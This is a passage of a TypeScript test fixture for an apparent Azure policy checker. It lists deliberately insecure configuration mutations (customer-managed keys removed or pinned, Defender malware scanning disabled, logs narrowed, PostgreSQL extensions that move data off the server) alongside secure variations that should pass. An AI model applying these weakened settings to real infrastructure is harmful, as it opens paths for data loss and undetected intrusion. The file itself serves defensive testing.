    control: "ENC-2",
  },
  {
    id: "table service key type left to Azure's default (Service)",
    stacks: PROD,
    type: T.account,
    set: { "encryption.services.table": DELETE },
    policy: "storage-account-customer-managed-key",
    control: "ENC-2",
  },
  {
    id: "a Microsoft-managed encryption scope on the customer data account",
    stacks: PROD,
    add: {
      type: "azure-native:storage:EncryptionScope",
      name: "scope-mmk",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        accountName: c.nameOf(T.account),
        encryptionScopeName: "mmk",
        source: "Microsoft.Storage",
      }),
    },
    policy: "storage-encryption-scope-customer-key",
    control: "ENC-2",
  },
  // preview15: a deployed scope's and container's outputs carry no accountName (a path
  // parameter), and a scope was matched by its name alone: the container passed naming a Key Vault
  // scope of another account, while Azure applies its own account's scope of that name (one made
  // outside the stack may use a Microsoft-managed key). Matched now by the account's ID.
  {
    id: "a container names a Key Vault scope that only another account has (its own account's may be Microsoft-managed)",
    stacks: PROD,
    add: {
      type: "azure-native:storage:EncryptionScope",
      name: "scope-other-account",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        accountName: `stsapother${c.stack}`,
        encryptionScopeName: "cmk",
        source: "Microsoft.KeyVault",
        keyVaultProperties: {
          keyUri: `https://${c.nameOf(T.vault)}.vault.azure.net/keys/key-sap-storage-prod`,
        },
      }),
      // Deployed, it shows its ID and name but no accountName (the harness's `addedOutputs`).
    },
    type: T.container,
    where: named("storage-recordings"),
    set: { defaultEncryptionScope: "cmk" },
    policy: "blob-container-encryption-scope",
    control: "ENC-2",
  },
  {
    id: "a container's default encryption scope the stack does not define",
    stacks: PROD,
    type: T.container,
    where: named("storage-recordings"),
    set: { defaultEncryptionScope: "mmk", denyEncryptionScopeOverride: true },
    policy: "blob-container-encryption-scope",
    control: "ENC-2",
  },
  {
    id: "storage CMK pinned to a key version",
    stacks: PROD,
    type: T.account,
    set: { "encryption.keyVaultProperties.keyVersion": "0123456789abcdef0123456789abcdef" },
    policy: "customer-managed-keys-rotate",
    control: "KEY-1",
  },
  {
    id: "PostgreSQL CMK pinned to a key version",
    stacks: PROD,
    type: T.pg,
    set: {
      "dataEncryption.primaryKeyURI": (c: Context) =>
        `https://${c.nameOf(T.vault)}.vault.azure.net/keys/key-sap-postgres-prod/0123456789abcdef0123456789abcdef`,
    },
    policy: "customer-managed-keys-rotate",
    control: "ENC-2",
  },
  {
    id: "Managed Redis CMK left on an old key version",
    stacks: PROD,
    type: T.redis,
    set: {
      "encryption.customerManagedKeyEncryption.keyEncryptionKeyUrl": (c: Context) =>
        `https://${c.nameOf(T.vault)}.vault.azure.net/keys/key-sap-redis-prod/00000000000000000000000000000001`,
    },
    policy: "customer-managed-keys-rotate",
    control: "KEY-1",
  },

  // Defender for Storage kept on but downgraded (THR-1): the plan stays Standard, its parts go
  ...(
    [
      ["on the classic per-transaction sub-plan", { subPlan: "PerTransaction" }],
      [
        "with malware scanning capped at 1 GB a month",
        {
          extensions: [
            {
              name: "OnUploadMalwareScanning",
              isEnabled: "True",
              additionalExtensionProperties: { CapGBPerMonthPerStorageAccount: "1" },
            },
          ],
        },
      ],
    ] as const
  ).map(([what, change]): Mutation => ({
    id: `Defender for Storage plan ${what}`,
    stacks: PROD,
    type: T.pricing,
    where: (i) => i.pricingName === "StorageAccounts",
    set: change,
    policy: "defender-plan-standard",
    control: "THR-1",
  })),
  {
    id: "Defender for Storage left on for the account, its malware scanning overridden off",
    add: {
      type: "azure-native:security:DefenderForStorage",
      name: "defender-storage-no-scan",
      inputs: (c) => ({
        resourceId: c.idOf(T.account),
        settingName: "current",
        properties: {
          isEnabled: true,
          overrideSubscriptionLevelSettings: true,
          malwareScanning: { onUpload: { isEnabled: false } },
          sensitiveDataDiscovery: { isEnabled: true },
        },
      }),
    },
    policy: "threat-protection-enabled",
    control: "THR-1",
  },

  {
    id: "Defender for Storage malware-scan results published to an Event Grid topic in another subscription",
    add: {
      type: "azure-native:security:DefenderForStorage",
      name: "defender-storage-scan-export",
      inputs: (c) => ({
        resourceId: c.idOf(T.account),
        settingName: "current",
        properties: {
          isEnabled: true,
          malwareScanning: {
            onUpload: { isEnabled: true, capGBPerMonth: -1 },
            scanResultsEventGridTopicResourceId: foreign("Microsoft.EventGrid/topics/scan-results"),
          },
        },
      }),
    },
    policy: "diagnostic-destinations-in-stack",
    control: "LOG-1",
  },

  // The audit category group in place of allLogs: a subset its service chooses (LOG-1)
  ...(
    [
      ["Container Apps environment", "Microsoft.App/managedEnvironments/"],
      ["PostgreSQL server", "Microsoft.DBforPostgreSQL/flexibleServers/"],
    ] as const
  ).map(([what, fragment]): Mutation => ({
    id: `${what} diagnostic setting narrowed from allLogs to the audit category group`,
    type: T.diag,
    where: (i) => uriHas(fragment)(i) && !String(i.resourceUri).includes("/providers/Microsoft.Insights"),
    set: { logs: [{ categoryGroup: "audit", enabled: true }] },
    policy: "diagnostic-setting-to-workspace",
    control: "LOG-1",
  })),

  // PostgreSQL extensions that move data out of the server (NET-1, IAM-1)
  {
    id: "PostgreSQL allowlists dblink and postgres_fdw (connections to any PostgreSQL server)",
    add: {
      type: T.pgConfig,
      name: "pg-ext-fdw",
      inputs: (c: Context) => ({
        resourceGroupName: c.resourceGroup,
        serverName: c.nameOf(T.pg),
        configurationName: "azure.extensions",
        value: "dblink,postgres_fdw",
        source: "user-override",
      }),
    },
    policy: "postgres-extensions-allowed",
    control: "NET-1",
  },
  {
    id: "PostgreSQL allowlists azure_storage (export tables to any storage account)",
    add: {
      type: T.pgConfig,
      name: "pg-ext-storage",
      inputs: (c: Context) => ({
        resourceGroupName: c.resourceGroup,
        serverName: c.nameOf(T.pg),
        configurationName: "azure.extensions",
        value: "vector,azure_storage",
        source: "user-override",
      }),
    },
    policy: "postgres-extensions-allowed",
    control: "NET-1",
  },
];

export const SECURE_VARIATIONS: Variation[] = [
  // bypass10: a target not known yet in a preview, computed from the stack's own account (the
  // engine's propertyDependencies say so): accepted, as in a first preview.
  {
    id: "storage account whose resource group name is computed from the stack's group (preview)",
    type: T.account,
    set: { resourceGroupName: UNKNOWN_SENTINEL },
  },
  {
    id: "storage private endpoint whose connections are computed from the stack's account (preview)",
    type: T.pe,
    where: named("storage-pe"),
    set: { privateLinkServiceConnections: UNKNOWN_SENTINEL },
  },
  {
    id: "environment mounts an Azure Files share of the stack's own account (no key in code)",
    add: {
      type: "azure-native:app:ManagedEnvironmentsStorage",
      name: "own-share",
      inputs: (c: Context) => ({
        resourceGroupName: c.resourceGroup,
        environmentName: c.nameOf(T.env),
        storageName: "own-share",
        properties: {
          azureFile: { accountName: c.nameOf(T.account), shareName: "share", accessMode: "ReadOnly" },
        },
      }),
    },
  },
  {
    id: "action group also e-mails a second on-call mailbox of the reviewed domain",
    type: T.actionGroup,
    set: { "push:emailReceivers": { name: "backup-oncall", emailAddress: "backup-oncall@Example.com" } },
  },
  {
    id: "PostgreSQL allowlists pgvector and pgcrypto (no network reach)",
    add: {
      type: T.pgConfig,
      name: "pg-ext-local",
      inputs: (c: Context) => ({
        resourceGroupName: c.resourceGroup,
        serverName: c.nameOf(T.pg),
        configurationName: "azure.extensions",
        value: "vector,pgcrypto",
        source: "user-override",
      }),
    },
  },
  {
    id: "NSG allows SSH from one office range (a public /24) and the VNet",
    type: T.nsg,
    where: named("network-apps-nsg"),
    set: {
      "push:securityRules": {
        name: "ssh-office",
        priority: 300,
        direction: "Inbound",
        access: "Allow",
        protocol: "Tcp",
        sourcePortRange: "*",
        sourceAddressPrefixes: ["203.0.113.0/24", "10.20.0.0/16", "VirtualNetwork"],
        destinationAddressPrefix: "*",
        destinationPortRange: "22",
      },
    },
  },
  {
    id: "a workload role on its storage account written in upper case with a trailing slash",
    type: T.role,
    where: (i) => i.principalType === "ServicePrincipal" && String(i.scope).includes("Microsoft.Storage"),
    set: { scope: (c: Context) => `${c.idOf(T.account).toUpperCase()}/` },
  },
  {
    id: "a foreign private endpoint request on the Key Vault rejected",
    add: {
      type: "azure-native:keyvault:PrivateEndpointConnection",
      name: "reject",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        vaultName: c.nameOf(T.vault),
        privateEndpointConnectionName: "pep-unknown.1a2b",
        privateLinkServiceConnectionState: { status: "Rejected", description: "not ours" },
      }),
    },
  },
  {
    id: "Key Vault audit logs also archived to the stack's own storage account (EU)",
    type: T.diag,
    where: uriHas("Microsoft.KeyVault/vaults/kvsapmain"),
    set: { storageAccountId: (c: Context) => c.idOf(T.account) },
  },
  {
    id: "NSG allows HTTPS from the Internet written as a range 443-443",
    type: T.nsg,
    where: named("network-apps-nsg"),
    set: {
      "push:securityRules": {
        name: "https-range",
        priority: 150,
        direction: "Inbound",
        access: "Allow",
        protocol: "Tcp",
        sourceAddressPrefix: "Internet",
        sourcePortRange: "*",
        destinationAddressPrefix: "*",
        destinationPortRanges: ["443-443", "443"],
      },
    },
  },
  {
    id: "metrics-only diagnostic setting on a private endpoint",
    add: {
      type: T.diag,
      name: "pe-metrics",
      inputs: (c) => ({
        name: "to-platform-workspace",
        resourceUri: own(c, `Microsoft.Network/privateEndpoints/pep-sap-storage-${c.stack}`),
        workspaceId: c.idOf(T.workspace),
        metrics: [{ category: "AllMetrics", enabled: true }],
      }),
    },
  },
  {
    id: "a Log Analytics table archived: 90 days interactive, 2 years in total",
    add: {
      type: "azure-native:operationalinsights:Table",
      name: "table-archive",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        workspaceName: c.nameOf(T.workspace),
        tableName: "ContainerAppConsoleLogs_CL",
        retentionInDays: 90,
        totalRetentionInDays: 730,
      }),
    },
  },
  {
    id: "workspace without a daily cap (-1)",
    type: T.workspace,
    set: { "workspaceCapping.dailyQuotaGb": -1 },
  },
  {
    id: "Log Analytics data export to the stack's own storage account",
    add: {
      type: "azure-native:operationalinsights:DataExport",
      name: "export-own",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        workspaceName: c.nameOf(T.workspace),
        dataExportName: "archive",
        resourceId: c.idOf(T.account),
        tableNames: ["AzureDiagnostics"],
        enable: true,
      }),
    },
  },
  {
    id: "a customer-managed encryption scope with a versionless key",
    stacks: PROD,
    add: {
      type: "azure-native:storage:EncryptionScope",
      name: "scope-cmk",
      inputs: (c) => ({
        resourceGroupName: c.resourceGroup,
        accountName: c.nameOf(T.account),
        encryptionScopeName: "cmk",
        source: "Microsoft.KeyVault",
        keyVaultProperties: {
          keyUri: `https://${c.nameOf(T.vault)}.vault.azure.net/keys/key-sap-storage-prod`,
        },
      }),
    },
  },
  {
    id: "Key Vault locked at the subscription scope instead",
    stacks: PROD,
    type: T.lock,
    where: scopeHas("kvsapmain"),
    set: lockAt((c) => `/subscriptions/${c.subscription}`),
  },
];
